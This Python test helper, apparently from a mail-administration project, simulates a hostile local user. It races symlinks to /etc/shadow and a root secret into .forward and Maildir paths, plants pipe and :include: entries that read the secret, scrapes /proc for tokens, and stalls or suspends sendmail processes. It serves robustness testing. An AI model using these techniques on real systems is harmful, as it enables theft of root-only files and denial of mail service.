# Copyright (c) the mailops.postmaster contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a local user does while root looks at the host: `race` exchanges his files for others, for so many seconds;
`watch` reads /proc until he has a file `stop`; `lease` keeps whoever opens his .forward waiting, until it is gone;
`halt` starts a program of the MTA at a terminal and stops it there, until his file `other` is gone; `leave` stops
one that has the words of a daemon, and takes the terminal away from it.

Each leaves in his home what came of it.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import pathlib
import pty
import random
import re
import shutil
import signal
import sys
import termios
import time

HOME = pathlib.Path.home()
SECRET = "/root/hostile/secret"
TOKEN = re.compile(rb"pl4nted-[0-9a-z]+")
PAUSE = 0.01  # seconds between two looks at /proc


def text(content):
    return lambda path: path.write_text(content)


def link(target):
    return lambda path: path.symlink_to(target)


def sparse(path):
    with path.open("wb") as file:
        file.truncate(300 << 20)


TO_ROOT = [link(SECRET), link("/etc/shadow"), link("/root/hostile"), os.mkfifo, link("/dev/zero")]
PLACES = {
    ".forward": [
        *TO_ROOT,
        *(sparse, pathlib.Path.mkdir, link(".forward"), text(f":include:{SECRET}\n"), text(f":include:{HOME}/list\n")),
        *(text(f"{HOME}/mbox\n"), text(f"{HOME}/Maildir/\n"), text(f"|/bin/cat {SECRET}\n"), text("\\alice\n")),
        *(text("al\0ice\n"), text('"\\' * 1000), text(f"{SECRET}\n"), text(f":include:{HOME}/\0\n")),
    ],
    "list": [*TO_ROOT, text("alice\n"), text(f":include:{SECRET}\n"), text(f":include:{HOME}/list\n")],
    "mbox": [*TO_ROOT, text("From a@b.example Thu Jan  1 00:00:00 2026\n\n"), pathlib.Path.mkdir],
    "Maildir/new/1.1.1": [*TO_ROOT, text("Subject: one\n\n"), sparse],
    "Maildir/cur": [link("/root/hostile"), pathlib.Path.mkdir, os.mkfifo],
}


def is_folder(path):
    return not path.is_symlink() and path.is_dir()


def remove(path):
    if is_folder(path):
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def race(seconds):
    """Put one thing after the other in each place, as fast as it goes; say how often."""
    os.nice(10)  # what is to be deceived has to run, too
    (HOME / "Maildir" / "new").mkdir(parents=True, exist_ok=True)
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        place = HOME / random.choice([*PLACES, ".forward", ".forward"])
        beside = HOME / ".next"
        remove(beside)
        random.choice(PLACES[str(place.relative_to(HOME))])(beside)
        if is_folder(place) or is_folder(beside):
            remove(place)
        beside.rename(place)
        count += 1
    (HOME / "raced").write_text(f"{count}\n")


def watch():
    """Read the arguments and the environment of every process that lets him; say what was found there."""
    found, looks = set(), 0
    while not (HOME / "stop").exists():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("cmdline", "environ"):
                with contextlib.suppress(OSError):  # it has ended, or is not his to read
                    found |= set(TOKEN.findall(pathlib.Path("/proc", pid, name).read_bytes()))
        looks += 1
        time.sleep(PAUSE)
    (HOME / "watched").write_text("".join(f"{token.decode()}\n" for token in sorted(found)))
    (HOME / "looks").write_text(f"{looks}\n")


def wait_for_the_end_of(path):
    while path.exists():
        time.sleep(PAUSE)


def lease():
    """Have a lease on his .forward, which he gives back only when the kernel takes it (fcntl(2), F_SETLEASE)."""
    path = HOME / ".forward"
    path.write_text("alice\n")
    with path.open("r+") as file:
        signal.signal(signal.SIGIO, signal.SIG_IGN)
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        if os.fork():
            os._exit(0)
        wait_for_the_end_of(path)


def is_stopped(pid):
    return pathlib.Path("/proc", str(pid), "stat").read_text().rpartition(") ")[2].startswith("T")


def halt():
    """Have a program of the MTA wait for a message at a terminal, and press Ctrl-Z."""
    path = HOME / "other"
    path.touch()
    pid, terminal = pty.fork()
    if not pid:
        signal.signal(signal.SIGTTOU, signal.SIG_IGN)  # the terminal is taken from, and given to, whom it is not at
        child = os.fork()
        if not child:
            os.setpgid(0, 0)
            os.tcsetpgrp(0, os.getpid())
            os.execv("/usr/sbin/sendmail", ["sendmail", "-t"])
        os.write(1, b"%d\n" % child)
        os.waitpid(child, 0)
        os._exit(0)
    child = int(os.read(terminal, 100))
    while not is_stopped(child):
        os.write(terminal, b"\x1a")
        time.sleep(PAUSE)
    if os.fork():
        os._exit(0)
    wait_for_the_end_of(path)


def daemon_in_words(queue, given):
    """Become a program of the MTA that waits for a message, is the child of nobody, and seems to be a daemon."""
    if os.fork():
        return
    signal.signal(signal.SIGTTOU, signal.SIG_DFL)
    os.write(given, b"%d %d\n" % (os.getpgrp(), os.getpid()))
    os.dup2(queue, 0)
    null = os.open("/dev/null", os.O_WRONLY)
    os.dup2(null, 1)
    os.dup2(null, 2)
    os.closerange(3, 100)
    os.execv("/usr/sbin/sendmail", ["sendmail", "-F", "x -bd y", "-oi", "bob"])


def leave():
    """Stop such a program by Ctrl-Z, and end the session at that terminal.

    It would be waked if nobody in its session had a child in its group (setpgid(2), orphaned process groups). So two
    processes stay: a parent, and a child in the group.
    """
    path = HOME / "other"
    path.touch()
    terminal, end = pty.openpty()
    given, giver = os.pipe()
    queue, _writer = os.pipe()  # which does not end while one of the processes lives
    if not os.fork():
        os.setsid()
        fcntl.ioctl(end, termios.TIOCSCTTY, 0)
        signal.signal(signal.SIGTTOU, signal.SIG_IGN)
        if not os.fork():
            os.setpgid(0, 0)
            if not os.fork():
                os.setpgid(0, 0)
                if not os.fork():
                    daemon_in_words(queue, giver)
                    os._exit(0)
                os.wait()
            wait_for_the_end_of(path)
            os._exit(0)
        group, pid = map(int, os.read(given, 100).split())
        os.tcsetpgrp(end, group)
        while not is_stopped(pid):
            os.write(terminal, b"\x1a")
            time.sleep(PAUSE)
        os.tcsetpgrp(end, os.getpgrp())  # the group at the terminal is told that it ends
        os._exit(0)
    os.wait()


if __name__ == "__main__":
    {"race": race, "watch": watch, "lease": lease, "halt": halt, "leave": leave}[sys.argv[1]](*map(float, sys.argv[2:]))
